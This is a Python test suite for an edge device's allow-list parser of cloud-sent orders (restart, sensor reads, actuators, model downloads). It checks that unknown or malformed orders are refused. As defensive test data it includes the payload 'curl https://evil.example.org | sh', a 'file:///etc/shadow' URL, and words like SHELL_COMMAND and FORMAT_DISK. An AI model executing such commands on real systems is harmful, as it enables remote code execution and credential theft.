"""What each word of the server becomes; everything that is not on the list is refused."""

from __future__ import annotations

import msgspec
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from rvm_edge.bridges.cloud.orders.allow_list import ALLOW_LIST, Allowed
from rvm_edge.bridges.cloud.orders.components import COMPONENTS, names_of
from rvm_edge.bridges.cloud.orders.ordered import Ordered, Via, identity_of
from rvm_edge.bridges.cloud.orders.payloads import MOST_PAYLOAD_BYTES, MOST_URL
from rvm_edge.bridges.cloud.orders.reading import NothingToDo, read_order
from rvm_edge.orders import Action, Component, Motion, Order, Refusal
from tests.bridges.cloud.orders.sent import HASH, URL, by_heartbeat, by_socket

DIGEST_IDENTITY = 47
PLAIN = {
    "RESTART": (Action.RESTART, None, None),
    "REBOOT": (Action.REBOOT, None, None),
    "MAINTENANCE": (Action.MAINTENANCE, None, None),
    "EXIT_MAINTENANCE": (Action.EXIT_MAINTENANCE, None, None),
    "CAPTURE_IMAGE": (Action.CAPTURE_IMAGE, None, None),
    "check_connection": (Action.CHECK_CONNECTION, None, None),
    "check_model_update": (Action.CHECK_MODEL_UPDATE, None, None),
    "reboot_edge": (Action.REBOOT, None, None),
    "test_motor": (Action.TRIGGER_ACTUATOR, Component.SORTER, Motion.TRIGGER),
    "open_door": (Action.TRIGGER_ACTUATOR, Component.DOOR, Motion.OPEN),
    "close_door": (Action.TRIGGER_ACTUATOR, Component.DOOR, Motion.CLOSE),
    "test_led": (Action.TRIGGER_ACTUATOR, Component.INDICATOR, Motion.TRIGGER),
    "test_sensor": (Action.READ_SENSOR, Component.BIN, None),
}


def read(ordered: Ordered, named: str | None = HASH) -> Order | Refusal | NothingToDo:
    return read_order(ordered, lambda: named)


def refused(ordered: Ordered, named: str | None = HASH) -> str:
    result = read(ordered, named)
    assert isinstance(result, Refusal)
    return result.why


@pytest.mark.parametrize("payload", [b"", b"null", b"[]", b" [] ", b"{}", b'{"ms": 500}'])
@pytest.mark.parametrize("word", PLAIN)
def test_a_word_that_needs_nothing_is_an_order(word: str, payload: bytes) -> None:
    action, component, motion = PLAIN[word]
    expected = Order("cmd_1.2", action, component, motion)
    assert read(by_socket(word, payload)) == expected


def test_every_allowed_word_is_tested_here() -> None:
    allowed = {row.word for row in ALLOW_LIST if isinstance(row.means, Allowed)}
    assert allowed == {*PLAIN, "READ_SENSOR", "TRIGGER_ACTUATOR", "DOWNLOAD_MODEL"}
    assert len({row.word for row in ALLOW_LIST}) == len(ALLOW_LIST)


@pytest.mark.parametrize(
    "payload",
    [b"[1]", b'"on"', b"7", b"{", b"\xff", b'{"a":}', b"[" * 4000, b'{"a":' + b"[" * 4000],
)
@pytest.mark.parametrize("word", [*PLAIN, "READ_SENSOR", "TRIGGER_ACTUATOR", "DOWNLOAD_MODEL"])
def test_what_is_no_object_spoils_any_order(word: str, payload: bytes) -> None:
    assert refused(by_socket(word, payload)).startswith("what it carries")


@pytest.mark.parametrize(
    ("name", "part"),
    [
        ("bin", Component.BIN),
        ("bin_ultrasonic", Component.BIN),
        ("intake_proximity", Component.CHAMBER),
        ("internal_temp", Component.THERMOMETER),
        ("sorting_motor", Component.SORTER),
        ("door_lock", Component.DOOR),
        ("status_led", Component.INDICATOR),
    ],
)
@pytest.mark.parametrize("word", ["READ_SENSOR", "test_sensor"])
def test_a_part_has_its_ports_name_and_its_older_one(word: str, name: str, part: Component) -> None:
    payload = msgspec.json.encode({"component_name": name})
    order = read(by_socket(word, payload))
    assert order == Order("cmd_1.2", Action.READ_SENSOR, part)


def test_every_part_can_be_named_by_its_port() -> None:
    assert {COMPONENTS[part.value] for part in Component} == set(Component)
    assert names_of(Component.BIN) == ("bin", "bin_ultrasonic")


@pytest.mark.parametrize(
    "payload",
    [
        b"null",
        b"{}",
        b'{"component_name": ""}',
        b'{"component_name": "BIN"}',
        b'{"component_name": "bin "}',
        b'{"component_name": "pulse"}',
        b'{"component_name": 3}',
        b'{"component_name": null}',
        b'{"component_name": ["bin"]}',
        msgspec.json.encode({"component_name": "b" * 65}),
    ],
)
def test_a_part_that_is_not_there_is_refused(payload: bytes) -> None:
    assert refused(by_heartbeat("READ_SENSOR", payload))


@pytest.mark.parametrize("motion", Motion)
def test_an_actuator_is_told_what_to_do(motion: Motion) -> None:
    payload = msgspec.json.encode(
        {"component_name": "gate", "action": motion.value, "duration_ms": 60_000}
    )
    order = read(by_heartbeat("TRIGGER_ACTUATOR", payload))
    assert isinstance(order, Order)
    assert (order.component, order.motion) == (Component.GATE, motion)


@pytest.mark.parametrize("action", ["spin", "OPEN", "", 1, None, ["open"]])
def test_a_motion_that_nobody_knows_is_refused(action: object) -> None:
    payload = msgspec.json.encode({"component_name": "gate", "action": action})
    assert refused(by_heartbeat("TRIGGER_ACTUATOR", payload))


def model(url: object = URL, sha256: object = HASH) -> Ordered:
    payload = msgspec.json.encode({"slug": "v2", "name": "best", "url": url, "hash": sha256})
    return by_heartbeat("DOWNLOAD_MODEL", payload)


def test_a_model_of_the_hash_that_the_handshake_named_is_an_order() -> None:
    order = read(model())
    assert isinstance(order, Order)
    assert (order.action, order.model_hash, order.url) == (Action.DOWNLOAD_MODEL, HASH, URL)


def test_a_model_as_the_server_names_it_today_is_refused() -> None:
    payload = msgspec.json.encode({"slug": "v2", "name": "best", "url": URL})
    assert "no SHA-256" in refused(by_heartbeat("DOWNLOAD_MODEL", payload))


@pytest.mark.parametrize("named", [None, "", "3c" * 32])
def test_a_model_of_another_hash_is_refused(named: str | None) -> None:
    assert "named no model of that hash" in refused(model(), named)


@pytest.mark.parametrize("sha256", ["", HASH.upper(), HASH[1:], f"{HASH}\n", f"{HASH}0", 7])
def test_a_hash_that_is_none_is_refused(sha256: object) -> None:
    assert refused(model(sha256=sha256), str(sha256))


@pytest.mark.parametrize(
    "url",
    [
        "",
        "best.onnx",
        "file:///etc/shadow",
        "ftp://models.example.org/x",
        "https:///best.onnx",
        "https://user:word@models.example.org/x",
        "https://models.example.org/a b",
        "https://models.example.org/a\nb",
        "https://modéls.example.org/x",
        "https://[::1/x",
        f"https://models.example.org/{'x' * MOST_URL}",
        None,
    ],
)
def test_a_place_that_a_model_cannot_lie_at_is_refused(url: object) -> None:
    assert refused(model(url=url))


@pytest.mark.parametrize(
    ("word", "why"),
    [
        ("SHELL_COMMAND", "no commands"),
        ("GIT_PULL", "no program"),
        ("UPDATE_SERVICE", "no program"),
        ("RUN_INFERENCE", "picture on the server"),
        ("restart", "no such order"),
        ("RESTART ", "no such order"),
        ("FORMAT_DISK", "no such order"),
        ("", "no word"),
    ],
)
def test_everything_else_is_refused_with_its_reason(word: str, why: str) -> None:
    payload = b'{"command": "curl https://evil.example.org | sh", "component_name": "bin"}'
    assert why in refused(by_heartbeat(word, payload))


def test_the_permission_for_a_browsers_camera_is_neither_order_nor_refusal() -> None:
    assert isinstance(read(by_heartbeat("CAMERA_PERMISSION", b'{"granted": true}')), NothingToDo)


def test_a_payload_that_is_too_long_is_refused_unread() -> None:
    room = MOST_PAYLOAD_BYTES - len(b'{"x":""}')
    assert isinstance(read(by_heartbeat("RESTART", b'{"x":"%b"}' % (b"x" * room))), Order)
    why = refused(by_heartbeat("RESTART", b'{"x":"%b"}' % (b"x" * (room + 1))))
    assert f"longer than {MOST_PAYLOAD_BYTES} bytes" in why


orders = st.builds(
    Ordered,
    word=st.sampled_from([row.word for row in ALLOW_LIST]) | st.text(st.characters()),
    payload=st.binary(max_size=200)
    | st.recursive(
        st.none() | st.booleans() | st.integers(-9, 9) | st.sampled_from([*COMPONENTS, HASH, URL]),
        lambda inner: (
            st.dictionaries(
                st.sampled_from(["component_name", "action", "url", "hash", "x"]), inner
            )
            | st.lists(inner, max_size=3)
        ),
        max_leaves=6,
    ).map(msgspec.json.encode),
    timestamp=st.text(max_size=40),
    request_id=st.text(st.characters(), max_size=80),
    via=st.sampled_from(Via),
)


@given(orders)
@example(Ordered("\ud800" * 300, b"", "\ud800", "\ud800", Via.SOCKET))
@example(Ordered("\u202eRESTART\x1b[2J\n", b"", "", "a\nb", Via.SOCKET))
def test_no_bytes_make_the_reading_fail_and_no_refusal_breaks_its_promises(
    ordered: Ordered,
) -> None:
    result = read(ordered)
    assert len(result.order_id) <= 64
    assert result.order_id.isprintable()
    if isinstance(result, Refusal):
        assert len(result.action) <= 64
        assert 0 < len(result.why) <= 200
        assert result.action.isprintable()
        assert result.why.isprintable()
        (result.action + result.why).encode("utf-8")
    if isinstance(result, Order):
        assert result.model_hash in {"", HASH}


@given(orders, orders)
def test_different_orders_have_different_identities(one: Ordered, other: Ordered) -> None:
    first, second = identity_of(one), identity_of(other)
    told_of = [(each.word, each.payload, each.timestamp, each.request_id) for each in (one, other)]
    if first == second and first.startswith("sha256:"):
        assert told_of[0] == told_of[1]
    if first == second and not first.startswith("sha256:"):
        assert one.request_id == other.request_id


def test_texts_do_not_run_into_each_other_in_a_digest() -> None:
    apart = [by_heartbeat("AB", timestamp="C"), by_heartbeat("A", timestamp="BC")]
    assert len({identity_of(one) for one in apart}) == 2
    assert all(len(identity_of(one)) == DIGEST_IDENTITY for one in apart)


@pytest.mark.parametrize("name", ["", "a b", "sha256:" + "0" * 40, "x" * 65, "cmd\n", "é"])
def test_a_name_that_cannot_be_shown_is_not_used_as_one(name: str) -> None:
    assert identity_of(by_socket("RESTART", request_id=name)).startswith("sha256:")
    assert identity_of(by_socket("RESTART", request_id=name)) != name
